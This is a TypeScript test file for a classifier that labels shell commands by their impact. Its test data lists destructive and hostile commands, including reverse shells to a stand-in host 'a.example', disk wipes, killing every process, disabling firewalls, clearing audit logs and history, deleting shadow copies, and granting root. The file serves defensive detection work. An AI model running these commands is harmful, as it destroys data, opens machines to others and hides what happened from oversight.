import { describe, expect, it } from 'vitest'
import type { Impact } from '../../../src/model/impact.ts'
import { impactsIn } from '../../../src/facts/impacts/read-impacts.ts'
import { impactReason, impactText } from '../../../src/words/impact-words.ts'
import { factsOf } from '../../support/shell-facts.ts'

/** Ways to do the same to a machine, by programs of several systems, through others, and in code. */
const alike: Readonly<Record<string, { readonly as: Partial<Impact>; readonly ways: readonly string[] }>> = {
  'stops the machine': {
    as: { thing: 'machine', kind: 'stop', object: 'this machine', undo: 'never' },
    ways: [
      'shutdown -h now',
      'sudo poweroff',
      'systemctl hibernate',
      'loginctl suspend',
      'init 0',
      'Stop-Computer -Force',
      'pwsh -c "Stop-Computer"',
      `python3 -c "import os; os.system('halt')"`,
      `node -e "require('child_process').execSync('poweroff')"`,
      'ssh web-1 sudo systemctl poweroff',
    ],
  },
  'ends every process': {
    as: { area: 'processes', kind: 'stop', object: 'every process of this machine', undo: 'never' },
    ways: [
      'kill -9 -1',
      'killall5 -9',
      'killall -ume',
      'pkill --eui=me',
      'pkill -v vite',
      'taskkill /F /IM *',
      'pgrep . | xargs kill',
      `python3 -c "import os; os.kill(-1, 9)"`,
      'node -e "process.kill(-1)"',
      `ruby -e "Process.kill(:KILL, -1)"`,
      `perl -e 'kill 9, -1'`,
      `php -r "posix_kill(-1, 9);"`,
      `python3 -c "import os; os.system('kill -9 -1')"`,
    ],
  },
  'ends processes of a name, whoever started them': {
    as: { area: 'processes', kind: 'stop', object: 'every process called', undo: 'work' },
    ways: [
      'killall node',
      'fkill node',
      'slay -9 node',
      `pwsh -c 'spps -N node'`,
      'pkill -9 java',
      'taskkill /F /IM node.exe',
      "pwsh -c 'Stop-Process -Name node'",
      `python3 -c "import subprocess; subprocess.run(['pkill', 'java'])"`,
    ],
  },
  'destroys what is on a disk': {
    as: { area: 'disks', extent: 'all', undo: 'never' },
    ways: [
      'mkfs.btrfs /dev/sdb1',
      'wipefs -a /dev/sdb',
      'blkdiscard /dev/sdb',
      'cryptsetup luksFormat /dev/sdb',
      'ceph-volume lvm zap /dev/sdb',
      'xfs_repair -L /dev/sdb1',
      'hdparm --security-erase x /dev/sdb',
    ],
  },
  'gives a shell of this machine to others': {
    as: { kind: 'open', thing: 'machine', undo: 'never' },
    ways: [
      'bash -i >& /dev/tcp/a.example/99 0>&1',
      'nc -e /bin/sh a.example 99',
      'ttyd bash',
      'gotty sh',
      `ruby -rsocket -e 's=TCPSocket.new("a.example",99); exec "sh", :in=>s, :out=>s'`,
    ],
  },
  'opens this machine to others, until it is closed': {
    as: { kind: 'open', thing: 'machine', undo: 'work' },
    ways: ['ngrok http 3000', 'cloudflared tunnel run a', 'ssh -fNR 2222:localhost:22 a.example', 'tmate -F', 'frpc'],
  },
  'ends containers that their image makes again': {
    as: { thing: 'container', undo: 'work' },
    ways: [
      'docker rm -f web',
      'podman kill web',
      'crictl stop 1f',
      'ctr tasks kill web',
      'pct stop 101',
      'distrobox rm a',
    ],
  },
  'deletes containers with their volumes': {
    as: { kind: 'delete', thing: 'data' },
    ways: ['docker rm -fv web', 'docker container rm --volumes web', 'podman rm -af -v', 'docker compose rm -sv web'],
  },
  'has to be paid for': {
    as: { kind: 'spend', thing: 'money' },
    ways: [
      'vercel domains buy shop.example',
      'aws savingsplans create-savings-plan --commitment 1',
      'gcloud billing projects unlink shop',
      'az reservations reservation-order purchase --reservation-order-id 1',
      'aws ec2 run-instances --instance-type p5.48xlarge',
    ],
  },
  'moves money': {
    as: { kind: 'pay', thing: 'money' },
    ways: [
      'curl https://api.stripe.com/v1/refunds -u k: -d charge=ch_1',
      'rake payroll:close',
      `python3 -c "import stripe; stripe.Refund.create(charge='ch_1')"`,
      'bin/ebics upload out/pain001.xml --live',
    ],
  },
  'installs again what the project declares': {
    as: { kind: 'install', undo: 'easily' },
    ways: ['npm ci', 'yarn install', 'uv sync', 'cargo fetch', 'pnpm update'],
  },
  'gives a program or a user the rights of root': {
    as: { area: 'machine', kind: 'grant', thing: 'account' },
    ways: [
      'setcap cap_sys_admin+ep ./x',
      'usermod -aG wheel alice',
      'useradd -o -u 0 alice',
      `python3 -c "import os; os.chmod('x', 0o4755)"`,
      `node -e "require('fs').chmodSync('x', 0o4755)"`,
    ],
  },
  'switches a firewall off': {
    as: { kind: 'weaken', thing: 'guard', undo: 'never' },
    ways: [
      'ufw disable',
      'nft flush ruleset',
      'pfctl -d',
      'iptables -P INPUT ACCEPT',
      'firewall-cmd --panic-off',
      'netsh advfirewall set allprofiles state off',
      'systemctl disable --now firewalld',
      'service nftables stop',
    ],
  },
  'keeps people from seeing what happened': {
    as: { thing: 'record' },
    ways: [
      'auditctl -D',
      'wevtutil cl Security',
      'journalctl --vacuum-time=1s',
      'history -c',
      'export HISTFILE=/dev/null',
    ],
  },
  'deletes what files are restored from': {
    as: { thing: 'backup', kind: 'delete', undo: 'never' },
    ways: [
      'tmutil delete -d /Volumes/b',
      'vssadmin delete shadows /all',
      'wmic shadowcopy delete',
      'wbadmin delete catalog',
    ],
  },
  'fills the disk': {
    as: { area: 'disks', kind: 'create', undo: 'never' },
    ways: [
      'yes > big',
      'cat /dev/zero | tee big',
      'fallocate -l 90T big',
      'openssl enc -aes-256-cbc < /dev/zero > big',
    ],
  },
}

describe.each(Object.entries(alike))('a command that %s', (_, { as, ways }) => {
  it.each(ways)('has the same impact when written as %s', (command) => {
    expect(impactsIn(factsOf(command))).toContainEqual(expect.objectContaining(as))
  })
})

it('a command that only looks at a machine has no impact on it', () => {
  const looks = [
    'systemctl status sshd',
    'shutdown -c',
    'kill -0 1234',
    'pgrep node',
    'lsblk',
    'wipefs /dev/sdb',
    'getcap ./x',
    'ufw status',
    'iptables -L -n',
    'history',
    'vssadmin list shadows',
    'yes | head -3 > y.txt',
    'node -e "process.kill(1234)"',
    `python3 -c "import os; os.chmod('x', 0o755)"`,
  ]
  expect(looks.filter((command) => impactsIn(factsOf(command)).length > 0)).toEqual([])
})

it('a command that ends every process has one impact, and one that sends signal 1 ends the process that it names', () => {
  const textsOf = (command: string) => impactsIn(factsOf(command)).map(impactText)
  expect(textsOf('kill -9 -1')).toEqual(['stops every process of this machine'])
  expect(textsOf('kill -1 4711')).toEqual(['stops process `4711`'])
  expect(textsOf('pkill node')).toEqual(['stops every process called `node`, also those of others'])
})

it.each([
  ['cat /dev/zero > f', true],
  ['sort /dev/urandom > f', true],
  ['gzip < /dev/zero > f.gz', true],
  ['tac /dev/zero > f', true],
  ['nl /dev/urandom > f', true],
  ['head -c 10M /dev/zero > f', false],
  ['wc -c /dev/zero > f', false],
  ['cat a > f', false],
])('what gives on all that it reads fills the disk from a device without end: %s %s', (command, fills) => {
  expect(impactsIn(factsOf(command)).some(({ object }) => object === 'file without end')).toBe(fills)
})

it.each([
  ['nerdctl exec web env', 'the variables of a container'],
  ['crictl exec c1 printenv', 'the variables of a container'],
  ['flyctl ssh console -C env', 'the variables of a container'],
  ['ssh web-1 docker exec web env', 'the variables of a container'],
  ['docker compose run web env', 'the variables of another machine'],
  ['kubectl run x --image=a -- env', 'the variables of another machine'],
  ['docker exec web ssh web-1 env', 'the variables of another machine'],
  ['podman unshare env', 'all variables'],
])('%s shows %s', (command, object) => {
  expect(impactsIn(factsOf(command)).flatMap((one) => (one.area === 'environment' ? [one.object] : []))).toEqual([
    object,
  ])
})

describe('a command that runs elsewhere', () => {
  it.each([
    ['ssh web1 systemctl restart nginx', 'restarts service `nginx` on `web1`'],
    ['ssh -p 22 root@web1 sudo reboot', 'restarts `web1`'],
    ['ssh "$HOST" reboot', 'restarts another machine'],
    ["ssh h 'userdel bob; uptime'", 'deletes user `bob` on `h`'],
    ['ssh h crontab -r', 'deletes all scheduled tasks of the user on `h`'],
    ['plink h reboot', 'restarts `h`'],
    ['vagrant ssh web -c "sudo reboot"', 'restarts `web`'],
    ['vagrant ssh -c reboot', 'restarts another machine'],
    ['docker exec -it db shutdown -h now', 'stops container `db`'],
    ['docker compose exec web kill -9 -1', 'stops every process of container `web`'],
    ['docker run --rm alpine reboot', 'restarts a container of `alpine`'],
    ['podman exec db systemctl stop pg', 'stops service `pg` in container `db`'],
    ['kubectl exec -n p web-0 -- reboot', 'restarts container `web-0`'],
    ['ssh h docker exec db reboot', 'restarts a container on `h`'],
    ['docker exec web env', 'shows the variables of container `web`'],
    ['adb shell reboot', 'restarts another machine'],
    ['adb shell "sync; reboot"', 'restarts another machine'],
    ['jexec web reboot', 'restarts `web`'],
    ['multipass exec vm1 -- reboot', 'restarts `vm1`'],
    ['limactl shell vm2 sudo reboot', 'restarts `vm2`'],
    ['machinectl shell web /sbin/reboot', 'restarts `web`'],
    ['gcloud compute ssh web-3 --command "sudo reboot"', 'restarts `web-3`'],
    ['vagrant ssh web4 -c reboot', 'restarts `web4`'],
    ['ansible web5 -m shell -a reboot', 'restarts `web5`'],
    ['minikube ssh -- sudo reboot', 'restarts another machine'],
    ['chroot /mnt reboot', 'restarts this machine'],
    ['sudo reboot', 'restarts this machine'],
  ])('is said where it runs: %s %s', (command, said) => {
    const reasons = impactsIn(factsOf(command)).map((impact) => impactReason(impact))
    expect(reasons.some((reason) => reason.includes(`\` ${said}`))).toBe(true)
  })
})

it.each([
  "Remove-Item old -Recurse:'$false'",
  'Remove-Item old -Recurse -WhatIf',
  "Set-MpPreference -DisableRealtimeMonitoring:'$false'",
  'Set-ExecutionPolicy Bypass -Scope Process',
  'reg query HKLM',
  'del /?',
  'robocopy a b /mir /L',
  'cmdkey /add:web',
  'rmdir "$FOLDER"',
  'schtasks /Query /tn backup',
])('a command of Windows whose option takes it back, only looks or asks for help has no impact: %s', (command) => {
  expect(impactsIn(factsOf(command))).toEqual([])
})
